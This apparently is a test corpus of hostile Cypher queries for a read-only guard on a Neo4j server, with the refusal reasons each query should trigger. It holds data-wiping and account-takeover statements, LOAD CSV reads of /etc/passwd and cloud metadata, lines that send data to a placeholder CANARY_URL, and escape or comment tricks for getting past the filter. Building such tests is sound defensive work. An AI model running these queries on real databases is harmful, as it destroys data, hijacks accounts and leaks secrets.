# Hostile queries, one a line (⏎ stands for a line break), by kind; behind the kind the reasons that a
# refusal may give. «syntax»: the server itself cannot read it. CANARY_FILE and CANARY_URL must not be touched.

## write ==> syntax write
CREATE (n:Evil)
CREATE (n:Evil) RETURN n
CREATE (a:Evil)-[:R]->(b:Evil)
INSERT (n:Evil)
MERGE (n:Evil {a: 1}) RETURN n
MERGE (n:Evil {a: 1}) ON CREATE SET n.b = 2 ON MATCH SET n.c = 3
MATCH (n) SET n.evil = 1
MATCH (n) SET n.evil = 1 RETURN count(n)
MATCH (n) SET n = {}
MATCH (n) SET n += {evil: 1}
MATCH (n) SET n:Evil
MATCH (n) SET n IS Evil
MATCH ()-[r]->() SET r.evil = 1
MATCH ()-[r]->() SET r += $map
MATCH (n) SET n["evil"] = 1
MATCH (n) SET n:$("Evil")
MATCH (n) REMOVE n.title
MATCH (n) REMOVE n:Publication
MATCH (n) REMOVE n["title"]
MATCH (n) DELETE n
MATCH (n) DETACH DELETE n
MATCH (n) NODETACH DELETE n
MATCH ()-[r]->() DELETE r
MATCH p=()-[]->() DELETE p
MATCH (n) WITH [n] AS list DELETE list[0]
FOREACH (x IN [1, 2] | CREATE (:Evil))
FOREACH (x IN [1] | FOREACH (y IN [2] | MERGE (:Evil {x: x, y: y})))
MATCH (n) FOREACH (x IN [n] | SET x.evil = 1)
MATCH (n) WITH collect(n) AS all FOREACH (x IN all | DETACH DELETE x)
MATCH p=(a)-[]->(b) FOREACH (x IN nodes(p) | REMOVE x.title)
CALL { CREATE (:Evil) } RETURN 1 AS x
CALL { MATCH (n) SET n.evil = 1 RETURN count(n) AS c } RETURN c
CALL { CALL { CREATE (n:Evil) RETURN n } RETURN n } RETURN n
UNWIND [1] AS x CALL (x) { CREATE (n:Evil {x: x}) RETURN n } RETURN n
MATCH (n:Publication) CALL (*) { SET n.evil = 1 } RETURN n
OPTIONAL CALL { CREATE (n:Evil) RETURN n } RETURN n
MATCH (n) RETURN n.title AS t UNION CREATE (n:Evil) RETURN n.title AS t
CREATE (n:Evil) RETURN n.title AS t UNION ALL MATCH (n) RETURN n.title AS t
WITH 1 AS x CREATE (n:Evil {x: x}) WITH n MATCH (m) RETURN m
MATCH (n) WHERE n.title = 'x' OR true SET n.evil = 1 WITH n MATCH (m) RETURN count(m)
OPTIONAL MATCH (n:Nothing) CREATE (:Evil) RETURN n
UNWIND range(1, 3) AS i CREATE (:Evil {i: i})
CREATE (n:Evil) FINISH
MATCH (a:Publication), (b:SimpleFamily) CREATE (a)-[:EVIL]->(b)
MATCH (a:Publication), (b:SimpleFamily) MERGE (a)-[:EVIL]->(b)
CREATE (n:`Evil`)
CREATE (n:$($label))
/* MATCH (n) RETURN n */ CREATE (n:Evil)
// RETURN 1⏎CREATE (n:Evil)
MATCH (n) /* read only */ SET /* really */ n.evil = 1
CR\u0045ATE (n:Evil)
\u0043REATE (n:Evil)
MATCH (n) S\u0045T n.evil = 1
MATCH (n) DET\u0041CH DEL\u0045TE n
cReAtE (n:Evil)
MATCH (n)set n.evil=1
MATCH (n)	DETACH	DELETE	n
MATCH (n)DETACH/**/DELETE/**/n

## write in a subquery ==> syntax write
RETURN COUNT { CREATE (n:Evil) RETURN n } AS c
RETURN EXISTS { MERGE (n:Evil) RETURN n } AS c
RETURN COLLECT { MATCH (n) SET n.evil = 1 RETURN n.evil } AS c
MATCH (n) WHERE EXISTS { MATCH (n) DELETE n } RETURN n
MATCH (n) RETURN [x IN [1] | COUNT { FOREACH (y IN [1] | CREATE (:Evil)) RETURN 1 AS a }]
MATCH (n) WHERE COUNT { CALL { CREATE (:Evil) } RETURN 1 AS x } > 0 RETURN n

## transactions ==> syntax transactions write
CALL { CREATE (:Evil) } IN TRANSACTIONS
MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS
MATCH (n) CALL (n) { SET n.evil = 1 } IN 4 CONCURRENT TRANSACTIONS
MATCH (n) CALL (n) { RETURN n.title AS t } IN TRANSACTIONS RETURN t
UNWIND [1] AS x CALL (x) { CREATE (:Evil) } IN TRANSACTIONS ON ERROR CONTINUE REPORT STATUS AS s RETURN s

## file or network ==> loadCsv syntax
LOAD CSV FROM 'CANARY_FILE' AS line RETURN line
LOAD CSV WITH HEADERS FROM 'CANARY_FILE' AS line RETURN line
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
LOAD CSV FROM 'file:///../../../../etc/passwd' AS line FIELDTERMINATOR ':' RETURN line
LOAD CSV FROM 'CANARY_URL' AS line RETURN line
LOAD CSV FROM 'CANARY_URL' + '/x' AS line RETURN line
LOAD CSV FROM $url AS line RETURN line
LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line
LOAD CSV FROM 'jar:CANARY_URL!/x' AS line RETURN line
LOAD CSV FROM 'http://[::1]:80/x' AS line RETURN line
LOAD CSV FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line
LOAD CSV FROM 'http://0x7f000001/x' AS line RETURN line
LOAD CSV FROM 'gopher://127.0.0.1:6379/x' AS line RETURN line
LOAD CSV FROM 'netdoc:///etc/passwd' AS line RETURN line
LOAD CSV FROM 's3://bucket/key' AS line RETURN line
CALL { LOAD CSV FROM 'CANARY_FILE' AS line RETURN line } RETURN line
MATCH (n) CALL (n) { LOAD CSV FROM 'CANARY_URL/' + n.title AS line RETURN line } RETURN line
UNWIND ['CANARY_URL'] AS u LOAD CSV FROM u AS line RETURN line
MATCH (n) WITH n LIMIT 1 LOAD CSV FROM 'CANARY_URL/?t=' + n.title AS line RETURN line
RETURN 1 AS line UNION LOAD CSV FROM 'CANARY_FILE' AS line RETURN line
LOAD/**/CSV FROM 'CANARY_FILE' AS line RETURN line
LOAD // a comment⏎CSV FROM 'CANARY_FILE' AS line RETURN line
L\u004FAD CSV FROM 'CANARY_FILE' AS line RETURN line
load csv from 'CANARY_FILE' as line return line
OPTIONAL MATCH (n:None) LOAD CSV FROM 'CANARY_FILE' AS line RETURN line, linenumber(), file()

## administration ==> administration syntax
SHOW USERS
SHOW USERS YIELD user RETURN user
SHOW CURRENT USER
SHOW DATABASES
SHOW DEFAULT DATABASE
SHOW SETTINGS
SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'auth' RETURN value
SHOW TRANSACTIONS
SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery
SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message
TERMINATE TRANSACTIONS 'neo4j-transaction-1'
TERMINATE TRANSACTION 'neo4j-transaction-1'
SHOW PROCEDURES
SHOW PROCEDURES EXECUTABLE BY CURRENT USER YIELD name RETURN name
SHOW FUNCTIONS
SHOW BUILT IN FUNCTIONS YIELD name RETURN name
SHOW INDEXES
SHOW FULLTEXT INDEXES
SHOW CONSTRAINTS
show indexes
SH\u004FW USERS
/* x */ SHOW USERS
CREATE USER evil SET PASSWORD 'evil-evil-evil' CHANGE NOT REQUIRED
CREATE OR REPLACE USER neo4j SET PASSWORD 'evil-evil-evil'
ALTER USER neo4j SET PASSWORD 'evil-evil-evil'
ALTER CURRENT USER SET PASSWORD FROM $password TO 'evil-evil-evil'
DROP USER neo4j
RENAME USER neo4j TO evil
CREATE INDEX evil FOR (n:Publication) ON (n.title)
CREATE INDEX evil IF NOT EXISTS FOR (n:Publication) ON (n.title)
CREATE FULLTEXT INDEX evil FOR (n:Publication) ON EACH [n.title]
CREATE VECTOR INDEX evil FOR (n:Publication) ON (n.embedding)
CREATE LOOKUP INDEX evil FOR ()-[r]-() ON EACH type(r)
CREATE TEXT INDEX evil FOR (n:Publication) ON (n.title)
CREATE POINT INDEX evil FOR (n:Publication) ON (n.place)
CREATE CONSTRAINT evil FOR (n:Publication) REQUIRE n.title IS UNIQUE
CREATE CONSTRAINT evil FOR (n:Publication) REQUIRE n.title IS NOT NULL
DROP INDEX agent_fulltext
DROP INDEX agent_fulltext IF EXISTS
DROP CONSTRAINT agent_agent_id_unique
DROP CONSTRAINT agent_agent_id_unique IF EXISTS
CREATE DATABASE evil
DROP DATABASE neo4j
STOP DATABASE neo4j
START DATABASE neo4j
CREATE ALIAS evil FOR DATABASE neo4j
CREATE ROLE evil
GRANT ROLE admin TO neo4j
GRANT ALL ON DBMS TO PUBLIC
DENY MATCH {*} ON GRAPH * TO PUBLIC
SHOW ROLES
SHOW PRIVILEGES
SHOW SERVERS
SHOW ALIASES FOR DATABASE
DRYRUN REALLOCATE DATABASES
ENABLE SERVER 'x'

## procedure ==> administration procedure syntax write
CALL dbms.listConfig() YIELD name, value RETURN name, value
CALL dbms.listConfig('auth')
CALL dbms.components()
CALL dbms.info()
CALL dbms.listConnections()
CALL dbms.killConnection('bolt-1')
CALL dbms.killConnections(['bolt-1'])
CALL dbms.listActiveLocks('q')
CALL dbms.listCapabilities()
CALL dbms.queryJmx('*:*')
CALL dbms.routing.getRoutingTable({})
CALL dbms.showCurrentUser()
CALL dbms.clientConfig()
CALL dbms.upgrade()
CALL dbms.security.listUsers()
CALL dbms.setConfigValue('db.logs.query.enabled', 'VERBOSE')
CALL db.clearQueryCaches()
CALL db.checkpoint()
CALL db.createLabel('Evil')
CALL db.createProperty('evil')
CALL db.createRelationshipType('EVIL')
CALL db.prepareForReplanning()
CALL db.resampleIndex('agent_fulltext')
CALL db.resampleOutdatedIndexes()
CALL db.awaitIndexes(300)
CALL db.stats.retrieve('GRAPH COUNTS')
CALL db.stats.collect('QUERIES')
CALL db.stats.clear('QUERIES')
CALL db.listLocks()
CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()
CALL db.create.setNodeVectorProperty(null, 'x', [1.0])
CALL tx.setMetaData({evil: 1})
CALL tx.getMetaData()
CALL gds.graph.list()
CALL gds.graph.drop('x')
CALL gds.graph.project('evil', 'Publication', 'CITES')
CALL gds.graph.project.cypher('evil', 'MATCH (n) RETURN id(n) AS id', 'MATCH (a)-->(b) RETURN id(a) AS source, id(b) AS target')
CALL gds.graph.export('evil', {dbName: 'evil'})
CALL gds.graph.export.csv('evil', {exportName: 'evil'})
CALL gds.beta.graph.generate('evil', 1000000, 100)
CALL gds.graph.generate('evil', 1000000, 100)
CALL gds.backup({})
CALL gds.debug.sysInfo()
CALL gds.pageRank.stream('x')
CALL gds.pageRank.write('x', {writeProperty: 'evil'})
CALL gds.wcc.mutate('x', {mutateProperty: 'evil'})
CALL apoc.load.json('CANARY_URL')
CALL apoc.cypher.runFile('CANARY_FILE')
CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})
CALL apoc.export.csv.all('/tmp/evil.csv', {})
CALL apoc.systemdb.graph()
CALL dbms . listConfig ( ) YIELD name RETURN name
CALL `dbms`.`listConfig`() YIELD name RETURN name
CALL dbms/**/./**/listConfig() YIELD name RETURN name
CALL d\u0062ms.listConfig() YIELD name RETURN name
C\u0041LL dbms.listConfig() YIELD name RETURN name
CALL `dbms.listConfig`()
CALL dbms.listConfig
CALL DBMS.LISTCONFIG()
CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN label, name
MATCH (n) CALL dbms.listConfig() YIELD name RETURN n, name
MATCH (n) CALL { CALL gds.graph.list() YIELD graphName RETURN graphName } RETURN graphName
CALL { CALL dbms.listConfig() YIELD name RETURN name UNION RETURN 'x' AS name } RETURN name
CALL { RETURN 'x' AS name UNION CALL gds.graph.drop('x', false) YIELD graphName RETURN graphName AS name } RETURN name
OPTIONAL CALL gds.graph.list() YIELD graphName RETURN graphName

## function ==> function syntax
RETURN gds.graph.exists('x') AS x
MATCH (a:SimpleFamily)-[:CITES_FAMILY]->(b) RETURN gds.graph.project('evil', a, b) AS g
MATCH (a:SimpleFamily) WITH gds.graph.project('evil', a, null) AS g RETURN g.graphName
RETURN `gds`.`graph`.`exists`('x') AS x
RETURN gds . graph . exists ('x') AS x
RETURN g\u0064s.graph.exists('x') AS x
RETURN gds.isLicensed() AS x
MATCH (n) WHERE gds.graph.exists(n.title) RETURN n
MATCH (n) RETURN n ORDER BY gds.graph.exists(n.title)
UNWIND [gds.graph.exists('x')] AS x RETURN x
RETURN CASE WHEN gds.graph.exists('x') THEN 1 ELSE 2 END AS x
RETURN reduce(a = 0, x IN [1] | CASE WHEN gds.graph.exists('x') THEN a ELSE x END) AS x
RETURN apoc.cypher.runFirstColumnSingle('CREATE (n:Evil) RETURN 1', {}) AS x
RETURN apoc.static.get('x') AS x
RETURN apoc.load.json('CANARY_URL') AS x
RETURN graph.names() AS x
RETURN graph.propertiesByName('system') AS x

## prefix or graph ==> syntax
EXPLAIN MATCH (n) RETURN n
PROFILE MATCH (n) RETURN n
EXPLAIN CREATE (n:Evil)
PROFILE CREATE (n:Evil)
explain match (n) return n
/* a */ EXPLAIN MATCH (n) RETURN n
// a⏎PROFILE MATCH (n) RETURN n
\u0050ROFILE MATCH (n) RETURN n
\u0045XPLAIN MATCH (n) RETURN n
CYPHER 5 MATCH (n) RETURN n
CYPHER 25 MATCH (n) RETURN n
CYPHER replan=force MATCH (n) RETURN n
CYPHER runtime=slotted MATCH (n) RETURN n
CYPHER debug=ast MATCH (n) RETURN n
CYPHER debug=tostring MATCH (n) RETURN n
CYPHER planner=dp expressionEngine=interpreted MATCH (n) RETURN n
CYPHER PROFILE MATCH (n) RETURN n
PROFILE CYPHER 5 MATCH (n) RETURN n
\u0043YPHER replan=force MATCH (n) RETURN n
USE neo4j MATCH (n) RETURN n
USE system MATCH (n) RETURN n
USE system SHOW USERS
USE system CALL dbms.security.createUser('a', 'b', false)
USE graph.byName('system') MATCH (n) RETURN n
USE `system` MATCH (n) RETURN n
CALL { USE system MATCH (n) RETURN n } RETURN n
CALL { USE system CALL dbms.listConfig() YIELD name RETURN name } RETURN name
RETURN 1 AS x UNION USE system MATCH (n) RETURN n AS x
USING PERIODIC COMMIT LOAD CSV FROM 'CANARY_FILE' AS line CREATE (:Evil)
USING PERIODIC COMMIT 500 MATCH (n) SET n.evil = 1

## a graph after the door's own USE ==> database
.system MATCH (n) RETURN n

## several statements ==> syntax
MATCH (n) RETURN n; MATCH (n) DETACH DELETE n
MATCH (n) RETURN n; CREATE (:Evil);
; CREATE (:Evil)
RETURN 1 AS x; SHOW USERS
RETURN 1 AS x;; CREATE (:Evil)
RETURN 1 AS x /* ; */; CREATE (:Evil)
RETURN ';' AS x; CREATE (:Evil)
:param x => 1
:use system
BEGIN
COMMIT
MATCH (n) RETURN n COMMIT
ROLLBACK
GO
